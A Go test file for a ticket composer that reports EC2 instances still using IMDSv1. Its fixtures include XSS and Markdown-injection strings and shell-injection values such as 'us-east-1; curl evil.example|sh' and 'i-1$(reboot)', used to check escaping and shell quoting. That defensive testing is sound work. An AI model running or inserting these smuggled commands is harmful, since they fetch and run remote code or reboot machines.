package ticket

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/imdsguard/imdsguard/internal/message"
	"github.com/imdsguard/imdsguard/internal/policy"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

const (
	testTag = "ops:imds-exempt"
	uaCLI   = "aws-cli/1.16.287 Python/3.6.9 Linux/4.14.138 botocore/1.13.23"
	uaGoV2  = "aws-sdk-go-v2/1.2.0 os/linux lang/go#1.16"
	uaBoto  = "Boto3/1.9.42 Python/2.7.15 Linux/4.14 Botocore/1.12.42"
	uaJava  = "aws-sdk-java/1.11.500 Linux/4.14 OpenJDK_64-Bit_Server_VM/25.252"
)

func ptr[T any](v T) *T { return &v }

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

// metricVerdict is a ticket on the metric alone (rule 6): CloudTrail was not looked up.
func metricVerdict() message.Verdict {
	return message.Verdict{
		Schema: message.Schema, DecisionID: "0192f0a1b2c3d-0123456789abcdef", CreatedAt: at("2026-11-22T10:00:00Z"),
		AccountID: "123456789012", Region: "us-east-1", InstanceID: "i-0abc1234def567890", Name: "web-1",
		Action: policy.ActionTicket,
		Reasons: []policy.Reason{{Code: policy.ReasonIMDSv1UsedMetric,
			Detail: "42 IMDSv1 calls in the last 336h, the last in the hour from 2026-11-22T08:00:00Z"}},
		Current: &message.Options{HTTPTokens: "optional", HopLimit: 1, HTTPEndpoint: "enabled"},
		Evidence: message.Evidence{
			MetadataNoTokenSum: ptr(42.0), ObservedHours: ptr(336),
			LastDatapoint: ptr(at("2026-11-22T09:00:00Z")), LastV1Use: ptr(at("2026-11-22T08:00:00Z")),
			CloudTrail: nil,
		},
	}
}

// cloudTrailVerdict is a ticket on CloudTrail (rule 9) with two SDKs: one outdated, one
// that speaks IMDSv2. No name tag.
func cloudTrailVerdict() message.Verdict {
	return message.Verdict{
		Schema: message.Schema, DecisionID: "0192f0a1b2c3e-0123456789abcdef", CreatedAt: at("2026-11-22T10:00:00Z"),
		AccountID: "123456789012", Region: "eu-west-1", InstanceID: "i-0def1234abc567890",
		Action: policy.ActionTicket,
		Reasons: []policy.Reason{{Code: policy.ReasonIMDSv1UsedCloudTrail,
			Detail: "CloudTrail shows role credentials fetched over IMDSv1 (ec2RoleDelivery 1.0) 3 time(s), the last used at 2026-11-22T07:12:00Z; calls: DescribeInstances, GetObject; user agents: " + uaCLI + ", " + uaGoV2}},
		Current: &message.Options{HTTPTokens: "optional", HopLimit: 1, HTTPEndpoint: "enabled"},
		Evidence: message.Evidence{
			MetadataNoTokenSum: ptr(0.0), ObservedHours: ptr(336),
			LastDatapoint: ptr(at("2026-11-22T09:00:00Z")), LastV1Use: ptr(at("2026-11-22T07:12:00Z")),
			CloudTrail: &message.CloudTrail{V1Deliveries: 3, V2Deliveries: 12,
				UserAgents: []string{uaCLI, uaGoV2}, SourceIPs: []string{"10.0.1.23"}},
		},
	}
}

// theftVerdict adds a use of IMDSv1 credentials from a foreign address, on a container host.
func theftVerdict() message.Verdict {
	return message.Verdict{
		Schema: message.Schema, DecisionID: "0192f0a1b2c3f-0123456789abcdef", CreatedAt: at("2026-11-22T10:00:00Z"),
		AccountID: "123456789012", Region: "us-east-1", InstanceID: "i-0fed1234abc567890", Name: "batch|legacy",
		Action: policy.ActionTicket,
		Reasons: []policy.Reason{
			{Code: policy.ReasonIMDSv1UsedCloudTrail,
				Detail: "CloudTrail shows role credentials fetched over IMDSv1 (ec2RoleDelivery 1.0) 2 time(s), the last used at 2026-11-22T06:30:00Z; calls: ListBuckets; user agents: " + uaBoto + ", " + uaJava},
			{Code: policy.ReasonContainerHost, Detail: "container host (tag eks:cluster-name): hop limit 2"},
			{Code: policy.ReasonPossibleCredentialTheft,
				Detail: "credentials fetched over IMDSv1 were used from 203.0.113.9, which is not an address of this instance: they may have been stolen (or the instance reaches AWS through a NAT or proxy)"},
		},
		Current: &message.Options{HTTPTokens: "optional", HopLimit: 2, HTTPEndpoint: "enabled"},
		Evidence: message.Evidence{
			MetadataNoTokenSum: ptr(0.0), ObservedHours: ptr(200),
			LastDatapoint: ptr(at("2026-11-22T09:00:00Z")), LastV1Use: ptr(at("2026-11-22T06:30:00Z")),
			CloudTrail: &message.CloudTrail{V1Deliveries: 2, V2Deliveries: 0,
				UserAgents: []string{uaBoto, uaJava}, SourceIPs: []string{"10.0.4.7", "203.0.113.9"}},
		},
	}
}

type fixture struct {
	name  string
	v     message.Verdict
	theft bool
}

func fixtures() []fixture {
	return []fixture{
		{"metric", metricVerdict(), false},
		{"cloudtrail", cloudTrailVerdict(), false},
		{"theft", theftVerdict(), true},
	}
}

func TestComposeRenderers(t *testing.T) {
	for _, f := range fixtures() {
		for _, dryRun := range []bool{false, true} {
			c := Compose(f.v, ComposeOptions{ExemptTag: testTag, DryRun: dryRun})
			renders := map[string]string{
				"markdown":  c.Markdown(),
				"plaintext": c.PlainText(),
				"adf":       adfText(roundTrip(t, c.ADF())),
			}
			wantTitle := "IMDSv1 still used on " + f.v.InstanceID
			if f.v.Name != "" {
				wantTitle += " (" + f.v.Name + ")"
			}
			wantTitle += " in " + f.v.AccountID + "/" + f.v.Region
			if dryRun {
				wantTitle = "[dry-run] " + wantTitle
			}
			if c.Title != wantTitle {
				t.Errorf("%s: title %q, want %q", f.name, c.Title, wantTitle)
			}
			if len(c.Advice) != len(f.v.Evidence.Trail().UserAgents) {
				t.Errorf("%s: %d advices for %d user agents", f.name, len(c.Advice), len(f.v.Evidence.Trail().UserAgents))
			}
			for format, out := range renders {
				name := f.name + "/" + format
				if dryRun {
					name += "/dry-run"
				}
				title := c.Title
				if format == "markdown" {
					title = mdText(title)
				}
				must := []string{
					title,
					string(f.v.Reasons[0].Code),
					"IMDSv1 calls in the last 336h",
					"ec2 create-tags",
					"aws-imds-packet-analyzer",
					"imdsguard plan --instance-ids " + f.v.InstanceID + " --region " + f.v.Region,
					"Key=" + testTag + ",Value=YYYY-MM-DD",
					testTag + "=YYYY-MM-DD",
					f.v.DecisionID,
					"2026-11-22T10:00:00Z",
				}
				if f.name != "metric" {
					must[2] = "ec2RoleDelivery 1.0"
				}
				for _, r := range f.v.Reasons[1:] {
					must = append(must, string(r.Code))
				}
				for _, a := range c.Advice {
					must = append(must, a.SDK, adviceHead(a.Advice))
					if format != "markdown" {
						must = append(must, a.UserAgent, a.Advice)
					}
				}
				for _, w := range must {
					if !strings.Contains(out, w) {
						t.Errorf("%s lacks %q", name, w)
					}
				}
				hasTheft := strings.Contains(strings.ToLower(out), "possible credential theft")
				if hasTheft != f.theft {
					t.Errorf("%s: theft section present = %v, want %v", name, hasTheft, f.theft)
				}
				if f.theft {
					for _, w := range []string{"Revoke active sessions", "aws:TokenIssueTime", "lookup-events", "203.0.113.9"} {
						if !strings.Contains(out, w) {
							t.Errorf("%s: theft section lacks %q", name, w)
						}
					}
				}
				if dryRun != strings.Contains(out, "DRY RUN") {
					t.Errorf("%s: body dry-run banner present = %v, want %v", name, !dryRun, dryRun)
				}
				if dryRun && !strings.Contains(out, "Dry run: nothing was changed.") {
					t.Errorf("%s: footer does not say dry run", name)
				}
			}
		}
	}
}

// adviceHead is the part of an advice sentence that contains nothing Markdown escapes.
func adviceHead(advice string) string {
	head, _, _ := strings.Cut(advice, " (")
	return head
}

func TestComposeSpecificAdvice(t *testing.T) {
	c := Compose(cloudTrailVerdict(), ComposeOptions{ExemptTag: testTag})
	md := c.Markdown()
	for _, w := range []string{
		"upgrade AWS CLI v1 from 1.16.287 to at least 1.16.289",
		"this version speaks IMDSv2: the caller may force IMDSv1",
		"`" + uaCLI + "`",
		"`" + uaGoV2 + "`",
		"`10.0.1.23`",
		"Upgrade AWS CLI v1 from 1.16.287 to at least 1.16.289.", // in What to do
		"`AWS_EC2_METADATA_V1_DISABLED=true`",                    // only because an SDK speaks IMDSv2
		"--http-put-response-hop-limit 2",
	} {
		if !strings.Contains(md, w) {
			t.Errorf("markdown lacks %q", w)
		}
	}
	m := Compose(metricVerdict(), ComposeOptions{})
	text := m.PlainText()
	for _, w := range []string{"imdsguard:exempt=YYYY-MM-DD", "does not say which process made them", "CloudTrail: not looked up"} {
		if !strings.Contains(text, w) {
			t.Errorf("metric ticket lacks %q", w)
		}
	}
	if strings.Contains(text, "AWS_EC2_METADATA_V1_DISABLED") || strings.Contains(text, "hop-limit 2") {
		t.Errorf("metric ticket on a plain host should not talk about fallback or hop limits:\n%s", text)
	}
}

func TestTitleWithoutName(t *testing.T) {
	c := Compose(cloudTrailVerdict(), ComposeOptions{})
	if want := "IMDSv1 still used on i-0def1234abc567890 in 123456789012/eu-west-1"; c.Title != want {
		t.Errorf("title %q, want %q", c.Title, want)
	}
}

// hostileVerdict carries user-controlled text meant to break out of Markdown.
func hostileVerdict() message.Verdict {
	v := theftVerdict()
	v.Name = "<img src=x onerror=alert(1)> **boss** [x](http://evil.example)"
	v.Evidence.CloudTrail.UserAgents = []string{
		"<script>alert(1)</script> | col | `tick` ``double`` [link](javascript:alert(1))",
		"aws-sdk-go/1.15.0 (go1.10; linux; amd64)\n# Injected heading\n- injected bullet",
		"`",
		"evil\u202eredaeh\u200b",
	}
	v.Reasons[0].Detail = "<b>bold</b> & &lt; | *x* _y_ ~~z~~ `c`\n1. list"
	return v
}

var fixedNow = time.Date(2026, 11, 23, 8, 30, 0, 0, time.UTC)

func testCtx(t *testing.T) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	t.Cleanup(cancel)
	return ctx
}

// bigVerdict has 30 long user agents, as in TestMarkdownWithin.
func bigVerdict() message.Verdict {
	v := hostileVerdict()
	for i := range 30 {
		v.Evidence.CloudTrail.UserAgents = append(v.Evidence.CloudTrail.UserAgents,
			"aws-sdk-java/1.11.500 Linux/4.14 OpenJDK_64-Bit_Server_VM/25.252 build-"+strings.Repeat("x", 400+i*7))
	}
	return v
}

// hugeVerdict adds 30 long source addresses: its full renderings exceed every limit.
func hugeVerdict() message.Verdict {
	v := bigVerdict()
	for i := range 30 {
		v.Evidence.CloudTrail.SourceIPs = append(v.Evidence.CloudTrail.SourceIPs,
			fmt.Sprintf("198.51.100.%d-", i)+strings.Repeat("y", 1000))
	}
	return v
}

func TestGolden(t *testing.T) {
	c := Compose(theftVerdict(), ComposeOptions{ExemptTag: testTag, DryRun: true})
	adf, err := json.MarshalIndent(c.ADF(), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	for file, got := range map[string]string{
		"theft.md":       c.Markdown(),
		"theft.txt":      c.PlainText(),
		"theft.adf.json": string(adf) + "\n",
	} {
		path := filepath.Join("testdata", file)
		if *update {
			if err := os.MkdirAll("testdata", 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("%v (run go test ./internal/ticket -run TestGolden -update)", err)
		}
		if got != string(want) {
			t.Errorf("%s differs from the rendering (run with -update to accept):\n%s", path, got)
		}
	}
}

// TestComposeCleansTheAgentVersion: an agent's version token (kubelet/<version>) reaches
// the SDK name that the advice shows; it must be cleaned like every outside value.
func TestComposeCleansTheAgentVersion(t *testing.T) {
	v := cloudTrailVerdict()
	v.Evidence.CloudTrail.UserAgents = []string{"kubelet/1.0\n===\n- injected aws-sdk-go/1.20.0"}
	c := Compose(v, ComposeOptions{})
	if got := c.Advice[0].SDK; !strings.Contains(got, "\n") {
		t.Fatalf("the fixture no longer carries a line break into the SDK name (%q)", got)
	}
	checkContentOneLine(t, "agent version", c)
	checkStructureOfModel(t, "agent version", c)
	for _, out := range []string{c.Markdown(), c.PlainText()} {
		for _, line := range strings.Split(out, "\n") {
			if line == "===" || strings.HasPrefix(line, "- injected") {
				t.Errorf("the agent's version made a line of its own: %q", line)
			}
		}
	}
}

// TestCommandsQuoteOutsideValues: the ticket's commands are meant to be pasted into a
// shell; an outside value stays one argument there.
func TestCommandsQuoteOutsideValues(t *testing.T) {
	v := theftVerdict()
	v.Region = "us-east-1; curl evil.example|sh"
	v.InstanceID = "i-1$(reboot)"
	md := Compose(v, ComposeOptions{ExemptTag: "a'b"}).Markdown()
	for _, want := range []string{
		`--region 'us-east-1; curl evil.example|sh' --lookup-attributes AttributeKey=Username,AttributeValue='i-1$(reboot)'`,
		`imdsguard plan --instance-ids 'i-1$(reboot)' --region 'us-east-1; curl evil.example|sh'`,
		`--tags 'Key=a'\''b,Value=YYYY-MM-DD'`,
	} {
		if !strings.Contains(md, want) {
			t.Errorf("the Markdown lacks the quoted command %q", want)
		}
	}
	if got := shellQuote(""); got != "''" {
		t.Errorf(`shellQuote("") = %q, want an empty argument`, got)
	}
}
